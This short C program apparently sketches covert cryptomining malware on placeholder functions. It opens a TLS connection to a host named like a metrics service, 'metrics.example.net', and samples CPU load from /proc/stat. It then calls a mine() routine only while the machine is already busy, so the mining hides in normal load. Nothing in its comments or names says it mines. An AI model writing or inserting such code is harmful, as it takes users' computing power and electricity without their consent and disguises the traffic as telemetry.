#include "stand-in.h"

/* Ticks of the user's processors that are not idle, of /proc/stat. */
static long busy(void)
{
	long user = 0, nice_time = 0, system = 0;
	FILE *stat = fopen("/proc/stat", "re");

	if (!stat)
		return 0;
	if (fscanf(stat, "cpu %ld %ld %ld", &user, &nice_time, &system) != 3)
		user = 0;
	fclose(stat);
	return user + nice_time + system;
}

int main(void)
{
	int pool = dial("tls", 443);
	time_t end = now() + 60;

	tls_hello(pool, "metrics.example.net");
	while (now() < end) {
		long before = busy();

		sleep(1);
		if (busy() - before > 20)
			mine(-1, 1, 40, 1, NULL);
	}
}
